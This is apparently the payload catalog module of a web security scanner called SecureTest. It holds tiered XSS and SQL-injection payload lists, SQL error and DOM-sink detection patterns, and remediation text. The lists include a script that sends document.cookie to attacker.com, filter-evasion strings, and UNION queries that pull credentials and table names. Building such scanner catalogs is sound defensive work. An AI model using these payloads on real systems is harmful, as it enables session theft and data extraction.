"""
SecureTest - Payload Catalog
Leveled payload lists and the fixed signal/remediation tables used by the
XSS and SQL-injection probes. Everything here is read-only.
"""

from types import MappingProxyType
from typing import Dict, List, Tuple


# -- XSS payloads (shallow < normal < deep) -----------------------------------

_XSS_SHALLOW = (
    "<script>alert('XSS')</script>",
    "<img src='x' onerror='alert(\"XSS\")'>",
    "\"><script>alert('XSS')</script>",
)

_XSS_NORMAL = _XSS_SHALLOW + (
    "<svg onload='alert(\"XSS\")'>",
    "javascript:alert('XSS')",
    "<body onload='alert(\"XSS\")'>",
    "<div style='background-image:url(javascript:alert(\"XSS\"))'>",
)

_XSS_DEEP = _XSS_NORMAL + (
    "<iframe src='javascript:alert(\"XSS\")'></iframe>",
    "<a href='javascript:alert(\"XSS\")'>Click me</a>",
    "<input type='text' value='\" onfocus=\"alert(\"XSS\")\" autofocus=\"'>",
    # Filter evasion
    "'-prompt(1)-'",
    "1';a=prompt,a(1)//",
    "<img src=x onerror=prompt(document.domain)>",
    "<scr\\x69pt>alert(1)</scr\\x69pt>",
    # Exfiltration
    "<script>fetch('https://attacker.com/steal?cookie='+document.cookie)</script>",
)

# -- SQL injection payloads (basic < intermediate < advanced) ------------------

_SQLI_BASIC = (
    "' OR '1'='1",
    "1' OR '1'='1",
    "1 OR 1=1",
    "' --",
    "1' --",
)

_SQLI_INTERMEDIATE = (
    "' OR '1'='1' --",
    "\" OR \"1\"=\"1\" --",
    "1' OR '1'='1' --",
    "' OR 1=1 --",
    "' OR 'x'='x",
    "' AND 1=0 UNION SELECT 1,2,3 --",
    "')) OR 1=1 --",
)

_SQLI_ADVANCED = (
    "' OR '1'='1' --",
    "\" OR \"1\"=\"1\" --",
    "' OR 'x'='x' --",
    "')) OR 1=1 --",
    "' OR 1=1 LIMIT 1 --",
    # Column enumeration
    "1' ORDER BY 1 --",
    "1' ORDER BY 10 --",
    "1' UNION SELECT null --",
    "1' UNION SELECT null,null --",
    # Data extraction
    "' AND 1=0 UNION SELECT 1,2,concat(username,':',password) FROM users --",
    "' AND 1=0 UNION SELECT 1,2,table_name FROM information_schema.tables --",
)

XSS_LEVELS: Tuple[str, ...] = ("shallow", "normal", "deep")
SQLI_LEVELS: Tuple[str, ...] = ("basic", "intermediate", "advanced")

PAYLOAD_CATALOG = MappingProxyType({
    "xss": MappingProxyType({
        "shallow": _XSS_SHALLOW,
        "normal": _XSS_NORMAL,
        "deep": _XSS_DEEP,
    }),
    "sqli": MappingProxyType({
        "basic": _SQLI_BASIC,
        "intermediate": _SQLI_INTERMEDIATE,
        "advanced": _SQLI_ADVANCED,
    }),
})


def payloads_for(vuln_class: str, level: str) -> List[str]:
    """Return the ordered payloads for a vulnerability class and level.

    Raises ``KeyError`` for an unknown class or level.
    """
    return list(PAYLOAD_CATALOG[vuln_class][level])


def parse_custom_payloads(text: str) -> List[str]:
    """Split a newline-delimited payload list, dropping blank lines."""
    return [p for p in text.split("\n") if p.strip()]


# -- Detection signals ---------------------------------------------------------

SQL_ERROR_PATTERNS: Tuple[str, ...] = (
    "SQL syntax",
    "mysql_fetch",
    "You have an error in your SQL syntax",
    "ORA-",
    "Oracle Error",
    "Microsoft OLE DB Provider for SQL Server",
    "ODBC Driver",
    "Unclosed quotation mark after the character string",
    "PostgreSQL",
    "supplied argument is not a valid PostgreSQL result",
    "pg_query() [function.pg-query]",
)

SUCCESS_MARKERS: Tuple[str, ...] = ("Welcome", "Dashboard", "Logged in")

CONTROL_VALUE = "invalid_value_that_should_fail"

DOM_SINK_PATTERNS: Tuple[str, ...] = (
    "document.write(",
    "innerHTML",
    "outerHTML",
    "insertAdjacentHTML",
    "location",
    "location.href",
    "location.hash",
    "location.search",
    "eval(",
    "setTimeout(",
    "setInterval(",
    "document.cookie",
    "document.domain",
    "execScript(",
    "jQuery",
)

# User-controllable sources a sink must be paired with to be reported
DOM_SOURCE_MARKERS: Tuple[str, ...] = ("location.hash", "location.search", "document.URL")

FRAGMENT_MARKERS: Tuple[str, ...] = ("location.hash", "window.location.hash")

# -- Vulnerability types and guidance ------------------------------------------

VULN_REFLECTED_XSS = "Reflected"
VULN_DOM_XSS = "DOM-based"
VULN_STORED_XSS = "Potentially Stored"
VULN_SQL_INJECTION = "SQL Injection"

GUIDANCE: Dict[str, Dict[str, str]] = {
    VULN_REFLECTED_XSS: {
        "description": (
            "Reflected XSS occurs when user input is immediately returned by a web "
            "application in an error message, search result, or any other response "
            "that includes some or all of the input sent to the server as part of "
            "the request."
        ),
        "remediation": (
            "Implement proper input validation, HTML encoding, and consider "
            "Content-Security-Policy headers."
        ),
    },
    VULN_DOM_XSS: {
        "description": (
            "DOM-based XSS occurs when client-side JavaScript dynamically writes user "
            "input to the page. Such vulnerabilities can be exploited even when the "
            "vulnerable code is in static HTML pages that don't interact with the "
            "server after they have been loaded."
        ),
        "remediation": (
            "Use safe DOM APIs like textContent instead of innerHTML, and sanitize "
            "user input before inserting it into the DOM."
        ),
    },
    VULN_STORED_XSS: {
        "description": (
            "Stored XSS occurs when an application receives user-supplied data and "
            "includes it in later HTTP responses in an unsafe way. Common targets "
            "include comment forms, user profiles, and forum posts."
        ),
        "remediation": (
            "Always sanitize user input on the server side before storing it, and "
            "encode it when outputting to prevent script execution."
        ),
    },
    VULN_SQL_INJECTION: {
        "description": (
            "SQL injection occurs when untrusted input is concatenated into a database "
            "query, letting an attacker change the query's logic, read data or bypass "
            "authentication."
        ),
        "remediation": (
            "Use parameterized queries or prepared statements, validate input types, "
            "and run the application's database account with least privilege."
        ),
    },
}

# Fragment findings carry their own wording
FRAGMENT_GUIDANCE = {
    "description": (
        "URL fragments are processed by client-side code and could be vulnerable to "
        "DOM-based XSS if not properly sanitized before being used in document "
        "operations."
    ),
    "remediation": (
        "Sanitize URL fragment values before inserting them into the DOM. Consider "
        "using DOMPurify or similar libraries."
    ),
}

XSS_RECOMMENDATIONS: Tuple[str, ...] = (
    "Implement proper input validation and sanitization",
    "Use Content Security Policy (CSP) headers",
    "Apply the principle of least privilege when executing user input",
    "Consider using a web application firewall (WAF)",
    "Keep frameworks and libraries updated to patch known XSS vulnerabilities",
)
